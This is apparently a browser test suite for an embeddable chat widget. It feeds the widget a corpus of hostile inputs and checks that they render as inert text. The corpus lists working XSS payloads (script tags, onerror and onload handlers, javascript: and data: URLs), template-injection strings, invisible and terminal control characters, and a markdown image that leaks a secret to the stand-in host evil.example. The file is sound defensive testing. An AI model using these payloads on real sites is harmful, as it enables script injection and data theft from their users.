import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Answer, CitedBriefing } from '../../src/core/model.ts';
import { createTiny, type TinyBriefing } from '../fixtures/tiny.ts';
import { drawn, type Visit, visit } from './browser.ts';
import { pageOf, serve, servePage } from './serve.ts';

/** What someone may put anywhere a text can stand. `evil.example` stands for their server; `hacked` for their script. */
const CORPUS = [
  '<script>hacked=1</script>',
  '<img src=x onerror=hacked=1>',
  '"><img src="https://evil.example/p.png?a=1">',
  '<svg onload=hacked=1><animate onbegin=hacked=1 attributeName=x>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<style>@import "https://evil.example/s.css";*{background:url(https://evil.example/b)}</style>',
  '<link rel=stylesheet href=https://evil.example/l.css><base href=https://evil.example/>',
  '<form action=https://evil.example/><button autofocus onfocus=hacked=1>x</form>',
  '<a href="javascript:hacked=1">here</a>',
  '<template><slot></slot></template></div></section></dialog><pilcrow-chat endpoint="https://evil.example">',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">',
  '![x](https://evil.example/leak?q=secret)',
  '[click](https://evil.example/) [j](javascript:hacked=1) <https://evil.example/>',
  '[ref]: https://evil.example/r "t"\n![ref]',
  'javascript:hacked=1',
  'data:text/html,<script>hacked=1</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it pretends to be
  '${hacked=1} {{constructor.constructor("hacked=1")()}} <%= hacked=1 %>',
  '\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u2060\ufeff \u{e0068}\u{e0069}',
  '\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007 \u001b[2J\u0000\u0008',
  "';hacked=1;//\\';hacked=1;//\\\";hacked=1;//--></script><script>hacked=1</script>",
  '<x'.repeat(500),
  '&lt;img src=x onerror=hacked=1&gt; &#60;script&#62;hacked=1',
];
const ALL = CORPUS.join(' ');
const URLS = [
  'javascript:hacked=1',
  'data:text/html,<script>hacked=1</script>',
  'https://evil.example/a',
  '//evil.example/b',
  '\\\\evil.example',
  'https://127.0.0.1@evil.example/',
];

const briefing: TinyBriefing = {
  id: 'evil',
  title: ALL,
  series: ALL,
  date: '2019',
  stated: true,
  newest: true,
  lines: [
    ['heading', ALL, []],
    ['heading', `${ALL} again`, [ALL]],
    ['body', `Crocodiles. ${ALL}`, [ALL, `${ALL} again`]],
    ['item', `Item. ${ALL}`, [ALL]],
    ['quotation', ALL, []],
    ['contact', ALL, []],
  ],
};

/** A service whose every word, address and name comes from the corpus. */
function createEvil() {
  const tiny = createTiny([briefing]);
  const cited: CitedBriefing = {
    id: ALL,
    title: ALL,
    series: ALL,
    edition: { date: ALL, stated: false },
    newest: false,
    source: `${ALL}.pdf`,
  };
  const citations = URLS.map((url, index) => ({
    number: index + 1,
    paragraph: `${ALL}#p1`,
    briefing: cited,
    headings: [ALL, ALL],
    page: 1,
    text: `before ${ALL} after`,
    quote: { exact: ALL, prefix: 'before ', suffix: ' after' },
    start: 0,
    end: 9,
    url,
  }));
  const numbers = citations.map((one) => one.number);
  return {
    ...tiny,
    ask: async (request: { question: string }, { onEvent }: Parameters<typeof tiny.ask>[1] = {}): Promise<Answer> => {
      const sentence = {
        text: ALL,
        citations: [...numbers, 99],
        verdict: 'checked' as const,
        highlight: { start: -5, end: 1e9 },
        under: ALL,
      };
      onEvent?.({ type: 'passages', passages: [] });
      onEvent?.({ type: 'sentence', sentence, citations });
      return {
        status: 'partial',
        outcome: 'answer',
        confidence: 1,
        answer: ALL,
        preface: ALL,
        talk: null,
        suggestions: CORPUS,
        sentences: [
          sentence,
          ...CORPUS.map((text) => ({ text, citations: [1], verdict: 'verified' as const, highlight: null, under: text })),
        ],
        withheld: [{ text: ALL, reason: ALL }],
        citations,
        notes: [{ kind: 'changed', text: ALL, citations: numbers }],
        nearest: citations.map(({ paragraph, headings, text, url }) => ({
          paragraph,
          paragraphs: [paragraph, ALL],
          briefing: cited,
          headings,
          page: null,
          text,
          url,
          score: 1,
        })),
        question: { asked: request.question, standalone: ALL, period: null, language: ALL },
        mode: 'generative',
        model: ALL,
        snapshot: ALL,
      };
    },
  };
}

let served: Awaited<ReturnType<typeof serve>>;
let browser: Visit;
beforeAll(async () => {
  served = await serve({ pilcrow: createEvil() });
});
afterAll(async () => {
  await browser?.close();
  await served?.server.close(0);
});

/** Nothing ran, nothing was asked for elsewhere, nothing was said, and no element or link got in. */
async function unharmed(origins: string[]) {
  const { page } = browser;
  await drawn(page);
  expect(browser.complaints).toEqual([]);
  const found = await page.evaluate(() => {
    const roots = [document, ...[...document.querySelectorAll('pilcrow-chat')].map((one) => one.shadowRoot!)];
    const all = roots.flatMap((root) => [...root.querySelectorAll('*')]);
    return {
      hacked: 'hacked' in window,
      elements: all
        .filter(
          (one) => /^(?:img|iframe|object|embed|video|audio|base|animate|math|template|meta)$/i.test(one.localName) && !one.closest('head'),
        )
        .map((one) => one.outerHTML.slice(0, 80)),
      handlers: all
        .filter((one) => [...one.attributes].some((attribute) => /^on/i.test(attribute.name)))
        .map((one) => one.outerHTML.slice(0, 80)),
      links: all.filter((one) => one instanceof HTMLAnchorElement).map((one) => (one as HTMLAnchorElement).href),
      text: roots.map((root) => ('body' in root ? root.body.textContent : (root as ShadowRoot).textContent)).join(' '),
    };
  });
  expect(found.hacked).toBe(false);
  expect(found.elements).toEqual([]);
  expect(found.handlers).toEqual([]);
  for (const link of found.links)
    expect(
      origins.some((origin) => link.startsWith(`${origin}/`)),
      link,
    ).toBe(true);
  return found.text ?? '';
}

describe('a page of another site without any policy of its own', () => {
  test('hostile answers, titles, headings, paragraphs, addresses and questions stay text', async () => {
    const host = await servePage(pageOf(`<script src="${served.url}/widget.js" data-open async></script>`));
    browser = await visit([host.url, served.url]);
    try {
      const { page } = browser;
      await page.goto(host.url);
      for (const question of [ALL.slice(0, 1900), '</textarea><script>hacked=1</script>']) {
        await page.locator('#field').fill(question);
        await page.locator('.send').click();
        await page.locator('.exchange').last().locator('.tools').waitFor();
      }
      await page.locator('.withheld summary').last().click();
      const last = page.locator('.exchange').last();
      for (let at = 0; at < URLS.length; at++) {
        await last.locator('.mark').nth(at).click();
        expect(await last.locator('[data-source]').count()).toBe(1);
        // Not one of these addresses may become a link.
        expect(await last.locator('[data-source] a').count()).toBe(0);
      }
      const text = await unharmed([host.url]);
      expect(text).toContain('<script>hacked=1</script>');
      expect(text).toContain('![x](https://evil.example/leak?q=secret)');
      // What is not seen, and what a terminal would obey, is gone.
      const panel = (await page.locator('dialog').textContent()) ?? '';
      expect(panel).not.toMatch(/[\u0000-\u0008\u001b\u202a-\u202e\u2066-\u2069\u200b\ufeff]/);
      expect(panel).not.toMatch(/[\u{e0000}-\u{e007f}]/u);
      // And again from what the tab keeps.
      await page.reload();
      await page.locator('.tools').last().waitFor();
      await unharmed([host.url]);
    } finally {
      await browser.close();
      await host.close();
    }
  });
});

test('its own pages', async () => {
  browser = await visit(served.url);
  const { page } = browser;
  for (const path of [
    '/',
    `/?q=${encodeURIComponent(ALL.slice(0, 1900))}&edition=${encodeURIComponent(CORPUS[2]!)}`,
    '/briefings/evil?quote=0-400#p3',
    `/embed?heading=${encodeURIComponent(CORPUS[2]!)}&suggestions=${encodeURIComponent(CORPUS.slice(0, 4).join('|'))}&lang=${encodeURIComponent(CORPUS[2]!)}`,
  ]) {
    await page.goto(served.url + path);
    await page.waitForLoadState('networkidle');
    await unharmed([served.url]);
  }
  await page.goto(`${served.url}/series/${encodeURIComponent(ALL.slice(0, 500))}`).catch(() => {});
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
});

describe('a page that gets in the way', () => {
  const styles = `
    * { all: unset; }
    * { display: none !important; color: red !important; font-size: 3px !important; }
    html, body, main { display: block !important; }
    pilcrow-chat { position: absolute !important; opacity: 0 !important; visibility: hidden !important; direction: rtl; letter-spacing: 2em; text-transform: uppercase; line-height: 0; font: 3px serif; zoom: 1; }
    button, textarea, dialog, mark, [part] { display: none !important; pointer-events: none !important; }`;
  const patches = `
    Object.prototype.extra = function () {};
    Array.prototype.remove = function () {};
    Array.prototype.toJSON = function () { return 'mine'; };
    Object.prototype.toJSON = function () { return 'mine'; };
    String.prototype.toJSON = function () { return 'mine'; };
    Function.prototype.delay = function () {};
    Element.prototype.show = Element.prototype.hide = Element.prototype.update = function () { throw new Error('patched'); };
    Element.prototype.attachEvent = window.event = window.$ = window.html = window.css = window.lit = function () { throw new Error('patched'); };
    Date.prototype.toJSON = function () { return 'mine'; };
    JSON.parse = (parse => function (text) { return parse(text); })(JSON.parse);
    window.open = window.name = window.status = window.history.x = undefined;
    Array.from = (from => function () { return from.apply(Array, arguments); })(Array.from);`;

  test('`all: unset`, rules with !important and patched prototypes do not change how it looks or works', async () => {
    const plain = await serve();
    const page = pageOf(
      `<script src="${plain.url}/widget.js" data-lang="en" async></script>`,
      '<link rel="stylesheet" href="/bad.css"><script src="/bad.js"></script>',
    );
    const calm = await servePage(pageOf(`<script src="${plain.url}/widget.js" data-lang="en" async></script>`));
    const host = await servePage(page, {}, { '/bad.css': styles, '/bad.js': patches });
    browser = await visit([host.url, calm.url, plain.url]);
    try {
      const picture = async () =>
        (await browser.page.locator('dialog').screenshot({ animations: 'disabled', caret: 'hide' })).toString('base64');
      const look = async (url: string) => {
        await browser.page.goto(url);
        // A second look begins like the first: nothing is remembered of the conversation.
        await browser.page.evaluate(() => {
          sessionStorage.clear();
          localStorage.clear();
        });
        await browser.page.reload();
        await browser.page.locator('.launcher').click();
        await browser.page.locator('#field').fill('How many harbours does the coast have?');
        await browser.page.keyboard.press('Enter');
        await browser.page.locator('.tools').waitFor();
        await browser.page.locator('.mark').first().click();
        await browser.page.locator('#field').fill('Which lighthouse is a museum?');
        await browser.page.keyboard.press('Enter');
        await browser.page.locator('.tools').nth(1).waitFor();
        // What lies under the pointer may look pressed.
        await browser.page.mouse.move(5, 5);
        await drawn(browser.page);
        const dialog = browser.page.locator('dialog');
        // Where the transcript was scrolled to depends on when things were painted, not on the page around it.
        await browser.page.locator('[role="log"]').evaluate((log) => {
          for (let at: Element | null = log; at; at = at.parentElement) at.scrollTop = 0;
        });
        return {
          text: await dialog.textContent(),
          box: await dialog.boundingBox(),
          picture: await picture(),
        };
      };
      let expected = await look(calm.url);
      let shown = await look(host.url);
      // A busy machine may catch one of the two half painted: a real difference is there every time.
      for (let more = 0; more < 3 && shown.picture !== expected.picture; more++) {
        expected = await look(calm.url);
        shown = await look(host.url);
      }
      expect(shown.text).toBe(expected.text);
      expect(shown.box).toEqual(expected.box);
      // Pixel by pixel.
      expect(shown.picture === expected.picture).toBe(true);
      expect((plain.pilcrow.asked.at(-1) as { history: unknown[] }).history).toHaveLength(2);
      expect(browser.complaints).toEqual([]);
    } finally {
      await browser.close();
      await Promise.all([host.close(), calm.close(), plain.server.close(0)]);
    }
  });
});
